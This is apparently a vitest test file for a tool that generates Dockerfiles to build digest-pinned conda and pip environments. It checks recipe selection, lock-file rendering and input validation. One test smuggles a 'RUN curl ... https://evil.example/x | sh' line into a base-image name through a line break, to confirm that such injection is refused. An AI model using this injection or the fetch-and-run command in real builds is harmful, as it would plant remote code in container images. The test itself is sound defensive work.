import { readFile, readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../errors.js';
import type { LockedEnv, LockedPackage } from '../env-model.js';
import { lockHash, selectRecipeName, prebuiltVersion, type RecipeInput } from './recipe.js';
import { materializedRecipe } from './materialized.js';
import { explicitLockFile, fromImageNamed, micromambaRecipe, pipRequirementsFile } from './micromamba.js';
import { createMicromambaRecipeRunner, recipeVersion, renderRecipe } from './select.js';

const sha = (c: string) => c.repeat(64);
const conda = (name: string, c: string): LockedPackage => ({
  kind: 'conda',
  name,
  version: '1.0',
  build: 'h0',
  url: `https://conda.example/main/linux-64/${name}-1.0-h0.conda`,
  sha256: sha(c),
  size: 10,
  filename: `${name}-1.0-h0.conda`,
  subdir: 'linux-64',
});
const wheel = (name: string, c: string): LockedPackage => ({
  kind: 'pypi',
  name,
  version: '2.0',
  build: '',
  url: `https://files.example/${name}-2.0-py3-none-any.whl`,
  sha256: sha(c),
  size: 10,
  filename: `${name}-2.0-py3-none-any.whl`,
});
const lock: LockedEnv = {
  specHash: 'abc',
  request: { python: '3.11', conda: {}, pypi: { tinyhttp: '' }, channels: [], indexUrl: null, platform: 'linux-64' },
  platform: 'linux-64',
  pythonVersion: '3.11.9',
  packages: [conda('pip', 'a'), conda('python', 'b'), wheel('tinyhttp', 'c')],
};
const input: RecipeInput = {
  lock,
  envId: '0123456789abcdef',
  prefix: '/opt/prebuilt/envs/0123456789abcdef',
  base: { ref: '127.0.0.1:5000/base:bookworm', digest: `sha256:${sha('d')}`, pinned: `127.0.0.1:5000/base@sha256:${sha('d')}` },
  prebuiltVersion: '9.9.9',
};

describe('selectRecipeName', () => {
  it('defaults to materialized, reads METAFLOW_PREBUILT_RECIPE, and refuses an unknown value', () => {
    expect(selectRecipeName({ env: {} })).toBe('materialized');
    expect(selectRecipeName({ env: { METAFLOW_PREBUILT_RECIPE: 'micromamba' } })).toBe('micromamba');
    expect(selectRecipeName({ value: 'materialized', env: { METAFLOW_PREBUILT_RECIPE: 'micromamba' } })).toBe('materialized');
    let error: unknown;
    try {
      selectRecipeName({ env: { METAFLOW_PREBUILT_RECIPE: 'conda-lock' } });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).message).toBe("Unknown recipe 'conda-lock'.");
    expect((error as ConfigError).hint).toContain('materialized, micromamba');
    expect((error as ConfigError).exitCode).toBe(2);
  });
});

describe('materializedRecipe', () => {
  it('copies the prefix onto a digest-pinned base with only FROM/COPY/ENV/LABEL', () => {
    const recipe = materializedRecipe(input);
    expect(recipe).toMatchObject({ name: 'materialized', version: recipeVersion('materialized'), contextFiles: [], prefixContextDir: 'prefix' });
    expect(recipe.dockerfile).toBe(
      [
        '# prebuilt materialized recipe v2: env 0123456789abcdef',
        `FROM 127.0.0.1:5000/base@sha256:${sha('d')}`,
        'COPY prefix/ /opt/prebuilt/envs/0123456789abcdef/',
        'ENV PATH=/opt/prebuilt/envs/0123456789abcdef/bin:${PATH:-/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin} \\',
        '    METAFLOW_SKIP_INSTALL_DEPENDENCIES=1',
        'LABEL dev.prebuilt.env-id="0123456789abcdef" \\',
        `      dev.prebuilt.lock-hash="${lockHash(lock)}" \\`,
        '      dev.prebuilt.version="9.9.9" \\',
        '      dev.prebuilt.recipe="materialized/2" \\',
        '      dev.prebuilt.prefix="/opt/prebuilt/envs/0123456789abcdef" \\',
        '      dev.prebuilt.python="/opt/prebuilt/envs/0123456789abcdef/bin/python" \\',
        '      dev.prebuilt.platform="linux-64" \\',
        `      dev.prebuilt.base="127.0.0.1:5000/base@sha256:${sha('d')}"`,
        '',
      ].join('\n'),
    );
    const instructions = recipe.dockerfile.split('\n').filter((l) => /^[A-Z]+ /.test(l)).map((l) => l.split(' ')[0]);
    expect(new Set(instructions)).toEqual(new Set(['FROM', 'COPY', 'ENV', 'LABEL']));
  });

  it('refuses a base image that is not pinned by digest, and an odd prefix', () => {
    expect(() => materializedRecipe({ ...input, base: { ...input.base, pinned: 'python:3.11' } })).toThrow(/not pinned by digest/);
    expect(() => materializedRecipe({ ...input, prefix: '/opt/with space' })).toThrow(ConfigError);
    expect(() => materializedRecipe({ ...input, prefix: 'relative/env' })).toThrow(ConfigError);
  });

  it('refuses a pinned base image that would add Dockerfile lines (a backend\'s baseImageIdentity answering with a line break)', () => {
    const digest = input.base.pinned.slice(input.base.pinned.indexOf('@'));
    for (const pinned of [`python\nRUN curl -s https://evil.example/x | sh\nFROM python${digest}`, `python AS x${digest}`, `python\r${digest}`]) {
      expect(() => materializedRecipe({ ...input, base: { ...input.base, pinned } })).toThrow(/not pinned by digest/);
      expect(() => micromambaRecipe({ ...input, base: { ...input.base, pinned } })).toThrow(/not pinned by digest/);
    }
  });

  it('labels with the version of @prebuilt/core by default, and the lock hash changes with the lock', () => {
    const { prebuiltVersion: _omit, ...withoutVersion } = input;
    expect(materializedRecipe(withoutVersion).dockerfile).toContain(`dev.prebuilt.version="${prebuiltVersion()}"`);
    expect(prebuiltVersion()).toMatch(/^\d+\.\d+\.\d+/);
    const other = { ...lock, packages: [conda('pip', 'a'), conda('python', 'e'), wheel('tinyhttp', 'c')] };
    expect(lockHash(other)).not.toBe(lockHash(lock));
    expect(lockHash({ ...lock })).toBe(lockHash(lock));
  });
});

describe('micromambaRecipe (text only: no micromamba binary can be fetched in these tests)', () => {
  it('installs the explicit lock with hashes and the wheels with pip --no-deps --require-hashes, then removes caches', () => {
    const recipe = micromambaRecipe(input, { env: {} });
    expect(recipe.name).toBe('micromamba');
    expect(recipe.version).toBe(recipeVersion('micromamba'));
    const lines = recipe.dockerfile.split('\n');
    expect(lines.slice(0, 9)).toEqual([
      '# prebuilt micromamba recipe v2: env 0123456789abcdef',
      'FROM mambaorg/micromamba:1.5.10 AS micromamba',
      `FROM 127.0.0.1:5000/base@sha256:${sha('d')}`,
      'COPY --from=micromamba /bin/micromamba /usr/local/bin/micromamba',
      'COPY prebuilt/ /tmp/prebuilt/',
      'RUN MAMBA_ROOT_PREFIX=/tmp/prebuilt/mamba micromamba create --yes --prefix /opt/prebuilt/envs/0123456789abcdef --file /tmp/prebuilt/conda-explicit.txt \\',
      '  && /opt/prebuilt/envs/0123456789abcdef/bin/python -m pip install --no-deps --require-hashes --no-index --no-cache-dir --disable-pip-version-check -r /tmp/prebuilt/pypi-requirements.txt \\',
      '  && rm -rf /tmp/prebuilt /usr/local/bin/micromamba /root/.cache',
      'ENV PATH=/opt/prebuilt/envs/0123456789abcdef/bin:${PATH:-/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin} \\',
    ]);
    expect(recipe.dockerfile).toContain('dev.prebuilt.recipe="micromamba/2"');
    expect(recipe.contextFiles.map((f) => f.path)).toEqual(['prebuilt/conda-explicit.txt', 'prebuilt/pypi-requirements.txt']);
    expect(recipe.contextFiles[0]!.content).toBe(explicitLockFile(lock));
    expect(explicitLockFile(lock).split('\n').slice(2)).toEqual([
      '# platform: linux-64',
      '@EXPLICIT',
      `https://conda.example/main/linux-64/pip-1.0-h0.conda#sha256:${sha('a')}`,
      `https://conda.example/main/linux-64/python-1.0-h0.conda#sha256:${sha('b')}`,
      '',
    ]);
    expect(pipRequirementsFile(lock)).toBe(`tinyhttp @ https://files.example/tinyhttp-2.0-py3-none-any.whl --hash=sha256:${sha('c')}\n`);
  });

  it('takes the micromamba image from METAFLOW_PREBUILT_MICROMAMBA_IMAGE and skips pip without wheels', () => {
    const condaOnly = { ...input, lock: { ...lock, packages: [conda('python', 'b')] } };
    const recipe = micromambaRecipe(condaOnly, { env: { METAFLOW_PREBUILT_MICROMAMBA_IMAGE: `reg.example/mm@sha256:${sha('f')}` } });
    expect(recipe.dockerfile).toContain(`FROM reg.example/mm@sha256:${sha('f')} AS micromamba`);
    expect(recipe.dockerfile).not.toContain('pip install');
    expect(recipe.contextFiles.map((f) => f.path)).toEqual(['prebuilt/conda-explicit.txt']);
    expect(() => micromambaRecipe(condaOnly, { micromambaImage: 'bad image\nRUN evil' })).toThrow(ConfigError);
  });

  it('a build service names each FROM image of its Dockerfile by what it is: the micromamba image with its setting, the base as the base image', () => {
    const condaOnly = { ...input, lock: { ...lock, packages: [conda('python', 'b')] } };
    const mamba = `reg.example/mm@sha256:${sha('f')}`;
    const { dockerfile } = micromambaRecipe(condaOnly, { micromambaImage: mamba });
    expect(fromImageNamed(dockerfile, mamba)).toBe(`the micromamba image ${mamba} (METAFLOW_PREBUILT_MICROMAMBA_IMAGE)`);
    expect(fromImageNamed(dockerfile, input.base.pinned)).toBe(`the base image ${input.base.pinned}`);
    expect(fromImageNamed(materializedRecipe(input).dockerfile, input.base.pinned)).toBe(`the base image ${input.base.pinned}`);
  });

  it('refuses wheels without a conda pip to install them', () => {
    const noPip = { ...input, lock: { ...lock, packages: [conda('python', 'b'), wheel('tinyhttp', 'c')] } };
    expect(() => micromambaRecipe(noPip, { env: {} })).toThrow(/no conda package `pip`/);
  });

  it('runner writes the context files and removes them on dispose', async () => {
    const runner = createMicromambaRecipeRunner({ env: {} });
    expect(runner).toMatchObject({ name: 'micromamba', version: '2' });
    const prepared = await runner.prepare({ lock, envId: input.envId, prefix: input.prefix, base: input.base });
    expect(prepared.dockerfile).toBe(renderRecipe('micromamba', { ...input, prebuiltVersion: prebuiltVersion() }, { env: {} }).dockerfile);
    expect((await readdir(join(prepared.contextDir, 'prebuilt'))).sort()).toEqual(['conda-explicit.txt', 'pypi-requirements.txt']);
    expect(await readFile(join(prepared.contextDir, 'prebuilt/conda-explicit.txt'), 'utf8')).toBe(explicitLockFile(lock));
    await prepared.dispose();
    await expect(stat(prepared.contextDir)).rejects.toThrow();
  });
});
